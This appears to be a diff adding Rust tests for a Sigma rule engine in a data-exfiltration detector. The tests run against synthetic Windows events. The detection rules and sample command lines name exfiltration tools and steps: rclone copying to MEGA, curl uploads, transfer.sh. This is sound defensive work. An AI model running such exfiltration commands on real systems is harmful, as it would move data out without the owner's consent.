@@ -1,0 +1,329 @@
+//! End-to-end behaviour of the rule set on events built here (no shared data).
+
+use model::{Detector, Event, LogSource, Origin, Signal, Stage, Timestamp, Value};
+use sigma::{RuleSetBuilder, SigmaOptions};
+use std::sync::Arc;
+
+fn sysmon(code: u32, category: &str, fields: &[(&str, &str)]) -> Event {
+    let mut event = Event {
+        timestamp: Timestamp::from_secs(1_700_000_000),
+        code: Some(code),
+        logsource: LogSource::new(Some("windows"), Some(category), Some("sysmon")),
+        origin: Some(Origin {
+            file: Arc::from("test.evtx"),
+            offset: 7,
+        }),
+        host_name: Some("ws1".into()),
+        ..Default::default()
+    };
+    event.native.push("EventID", Value::Int(code as i64));
+    for (k, v) in fields {
+        event.native.push(k, Value::from(*v));
+    }
+    event
+}
+
+fn builder() -> RuleSetBuilder {
+    RuleSetBuilder::new(SigmaOptions::default()).unwrap()
+}
+
+fn run(yaml: &str, events: &[Event]) -> Vec<Signal> {
+    let mut b = builder();
+    let rows = b.add_yaml(yaml, "inline.yml");
+    assert!(rows.iter().all(|r| r.is_ok()), "{rows:?}");
+    let set = b.build();
+    assert!(set.problems().is_empty(), "{:?}", set.problems());
+    let mut detector = set.detector();
+    let mut out = Vec::new();
+    for e in events {
+        detector.observe(e, &mut out);
+    }
+    detector.finish(&mut out);
+    out
+}
+
+const RCLONE: &str = r#"
+title: Rclone copy to cloud
+id: 11111111-0000-0000-0000-000000000001
+status: test
+author: exfilguard tests
+level: high
+tags: [attack.exfiltration, attack.t1567.002]
+logsource: {product: windows, category: process_creation}
+detection:
+  selection_img:
+    - Image|endswith: '\rclone.exe'
+    - OriginalFileName: 'rclone.exe'
+  selection_cmd:
+    CommandLine|contains|all: [' copy ', 'mega:']
+  filter_main:
+    ParentImage|startswith: 'C:\Program Files\Backup\'
+  condition: 1 of selection_* and not filter_main
+"#;
+
+#[test]
+fn detection_signal_carries_rule_metadata() {
+    let event = sysmon(
+        1,
+        "process_creation",
+        &[
+            ("Image", "C:\\Tools\\RCLONE.EXE"),
+            ("CommandLine", "rclone copy C:\\data mega:bucket"),
+        ],
+    );
+    let out = run(RCLONE, &[event]);
+    assert_eq!(out.len(), 1);
+    let s = &out[0];
+    assert_eq!(s.detector, "sigma");
+    assert_eq!(s.rule_id, "11111111-0000-0000-0000-000000000001");
+    assert_eq!(s.rule_name, "Rclone copy to cloud");
+    assert_eq!(s.rule_author.as_deref(), Some("exfilguard tests"));
+    assert_eq!(s.score, 75);
+    assert_eq!(s.stage, Stage::Exfiltration);
+    assert_eq!(s.techniques, vec!["T1567.002"]);
+    assert_eq!(s.host_name.as_deref(), Some("ws1"));
+    assert_eq!(s.records[0].offset, 7);
+    assert!(s.id.starts_with("alert-"));
+    assert_eq!(s.evidence["fields"]["Image"], "C:\\Tools\\RCLONE.EXE");
+}
+
+#[test]
+fn filters_and_routing_exclude() {
+    let filtered = sysmon(
+        1,
+        "process_creation",
+        &[
+            ("Image", "C:\\x\\rclone.exe"),
+            ("ParentImage", "C:\\Program Files\\Backup\\agent.exe"),
+        ],
+    );
+    let wrong_category = sysmon(11, "file_event", &[("Image", "C:\\x\\rclone.exe")]);
+    assert!(run(RCLONE, &[filtered, wrong_category]).is_empty());
+}
+
+#[test]
+fn security_4688_is_process_creation() {
+    let mut event = sysmon(
+        4688,
+        "process_creation",
+        &[("NewProcessName", "C:\\x\\rclone.exe")],
+    );
+    event.logsource = LogSource::new(Some("windows"), Some("process_creation"), Some("security"));
+    assert_eq!(run(RCLONE, &[event]).len(), 1);
+}
+
+#[test]
+fn event_id_is_checked_with_the_service() {
+    let rule = r#"
+title: Service installed
+logsource: {product: windows, service: system}
+detection:
+  sel: {EventID: 7045}
+  condition: sel
+"#;
+    let mut system = sysmon(7045, "x", &[]);
+    system.logsource = LogSource::new(Some("windows"), None, Some("system"));
+    // Sysmon never writes 7045, but an id shared by two providers must not match
+    // a rule of the other service.
+    let other = sysmon(7045, "x", &[]);
+    assert_eq!(run(rule, &[system, other]).len(), 1);
+}
+
+#[test]
+fn keywords_and_ecs_fallback() {
+    let rule = r#"
+title: Keyword
+logsource: {product: windows}
+detection:
+  keywords: ['mega.nz', 'transfer.sh']
+  condition: keywords
+"#;
+    let event = sysmon(
+        3,
+        "network_connection",
+        &[("DestinationHostname", "x.MEGA.nz")],
+    );
+    assert_eq!(run(rule, &[event]).len(), 1);
+
+    // An ECS-only event (no native Image) still matches `Image` through the
+    // typed field.
+    let mut ecs = Event {
+        logsource: LogSource::new(Some("windows"), Some("process_creation"), None),
+        ..Default::default()
+    };
+    ecs.process_mut().executable = Some("C:\\bin\\rclone.exe".into());
+    assert_eq!(run(RCLONE, &[ecs]).len(), 1);
+}
+
+#[test]
+fn event_count_correlation_groups_and_suppresses_base_rule() {
+    let yaml = r#"
+title: Curl upload
+id: base-1
+name: curl_upload
+logsource: {product: windows, category: process_creation}
+detection:
+  sel: {Image|endswith: '\curl.exe', CommandLine|contains: ' -T '}
+  condition: sel
+---
+title: Many curl uploads
+id: corr-1
+level: critical
+tags: [attack.t1020]
+correlation:
+  type: event_count
+  rules: [curl_upload]
+  group-by: [Computer]
+  timespan: 10m
+  condition: {gte: 3}
+"#;
+    let mut events = Vec::new();
+    for i in 0..3 {
+        let mut e = sysmon(
+            1,
+            "process_creation",
+            &[
+                ("Image", "C:\\curl.exe"),
+                ("CommandLine", "curl -T a.zip https://x"),
+            ],
+        );
+        e.native.push("Computer", Value::from("ws1"));
+        e.timestamp = Timestamp::from_secs(1_700_000_000 + i * 60);
+        e.origin = Some(Origin {
+            file: Arc::from("a.evtx"),
+            offset: i as u64,
+        });
+        events.push(e);
+    }
+    let out = run(yaml, &events);
+    assert_eq!(out.len(), 1, "base rule alerts are suppressed: {out:?}");
+    let s = &out[0];
+    assert_eq!(s.rule_id, "corr-1");
+    assert_eq!(s.records.len(), 3);
+    assert_eq!(s.evidence["group_by"]["Computer"], "ws1");
+    assert_eq!(s.stage, Stage::Exfiltration);
+}
+
+#[test]
+fn temporal_chain_across_rules() {
+    let yaml = r#"
+title: Archive
+name: archive
+logsource: {product: windows, category: process_creation}
+detection:
+  sel: {Image|endswith: '\7z.exe'}
+  condition: sel
+---
+title: Upload
+name: upload
+logsource: {product: windows, category: process_creation}
+detection:
+  sel: {Image|endswith: '\rclone.exe'}
+  condition: sel
+---
+title: Archive then upload
+correlation:
+  type: temporal_ordered
+  rules: [archive, upload]
+  group-by: [host]
+  aliases:
+    host: {archive: Computer, upload: Computer}
+  timespan: 1h
+  generate: true
+"#;
+    let mut a = sysmon(
+        1,
+        "process_creation",
+        &[("Image", "C:\\7z.exe"), ("Computer", "ws1")],
+    );
+    a.timestamp = Timestamp::from_secs(100);
+    let mut b = sysmon(
+        1,
+        "process_creation",
+        &[("Image", "C:\\rclone.exe"), ("Computer", "ws1")],
+    );
+    b.timestamp = Timestamp::from_secs(200);
+    let out = run(yaml, &[a, b]);
+    let names: Vec<&str> = out.iter().map(|s| s.rule_name.as_str()).collect();
+    assert_eq!(names, vec!["Archive", "Upload", "Archive then upload"]);
+}
+
+#[test]
+fn filter_document_narrows_named_rule() {
+    let yaml = format!(
+        "{RCLONE}\n---\ntitle: Allow IT\nlogsource: {{product: windows, category: process_creation}}\nfilter:\n  rules: [11111111-0000-0000-0000-000000000001]\n  sel: {{User|contains: 'svc_it'}}\n  condition: not sel\n"
+    );
+    let it = sysmon(
+        1,
+        "process_creation",
+        &[("Image", "C:\\rclone.exe"), ("User", "CORP\\svc_it")],
+    );
+    let bob = sysmon(
+        1,
+        "process_creation",
+        &[("Image", "C:\\rclone.exe"), ("User", "CORP\\bob")],
+    );
+    let out = run(&yaml, &[it, bob]);
+    assert_eq!(out.len(), 1);
+}
+
+#[test]
+fn hostile_rules_are_reported_and_the_rest_load() {
+    let deep = format!(
+        "title: Deep\nlogsource: {{product: windows}}\ndetection:\n  sel: {{a: b}}\n  condition: {}sel{}\n",
+        "(".repeat(10_000),
+        ")".repeat(10_000)
+    );
+    let regex = "title: Regex\nlogsource: {product: windows}\ndetection:\n  sel:\n    CommandLine|re: '(a{1000}){1000}'\n  condition: sel\n";
+    let big = format!("title: Big\ndescription: '{}'\n", "x".repeat(50 << 20));
+    let mut b = builder();
+    let rows: Vec<_> = [
+        b.add_yaml(&deep, "deep.yml"),
+        b.add_yaml(regex, "regex.yml"),
+        b.add_yaml(&big, "big.yml"),
+        b.add_yaml(RCLONE, "good.yml"),
+    ]
+    .concat();
+    let errors: Vec<&str> = rows.iter().filter_map(|r| r.error.as_deref()).collect();
+    assert_eq!(errors.len(), 3, "{rows:?}");
+    assert!(errors[0].contains("nested deeper"), "{}", errors[0]);
+    assert!(errors[0].starts_with("line 5"), "{}", errors[0]);
+    assert!(errors[1].contains("regex too large"), "{}", errors[1]);
+    assert!(errors[2].contains("limit"), "{}", errors[2]);
+    assert!(rows[3].is_ok());
+    assert_eq!(b.build().rules().len(), 1);
+}
+
+#[test]
+fn lint_rows_serialise_to_the_contract() {
+    let mut b = builder();
+    let rows = b.add_yaml(
+        "title: X\nlogsource: {product: w}\ndetection:\n  sel:\n    a|bogus: 1\n  condition: sel\n",
+        "x.yml",
+    );
+    let json = serde_json::to_value(&rows[0]).unwrap();
+    assert_eq!(json["path"], "x.yml");
+    assert_eq!(json["status"], "error");
+    assert_eq!(json["title"], "X");
+    assert_eq!(json["error"], "line 5: in `sel`: unknown modifier `bogus`");
+}
+
+#[test]
+fn matcher_is_shareable_across_threads() {
+    fn assert_sync<T: Sync + Send>() {}
+    assert_sync::<sigma::Matcher>();
+    let mut b = builder();
+    b.add_yaml(RCLONE, "r.yml");
+    let set = b.build();
+    let event = sysmon(1, "process_creation", &[("Image", "C:\\rclone.exe")]);
+    std::thread::scope(|scope| {
+        for _ in 0..2 {
+            scope.spawn(|| {
+                let mut scratch = set.matcher().scratch();
+                let mut hits = Vec::new();
+                set.matcher().match_event(&event, &mut scratch, &mut hits);
+                assert_eq!(hits, vec![0]);
+            });
+        }
+    });
+}
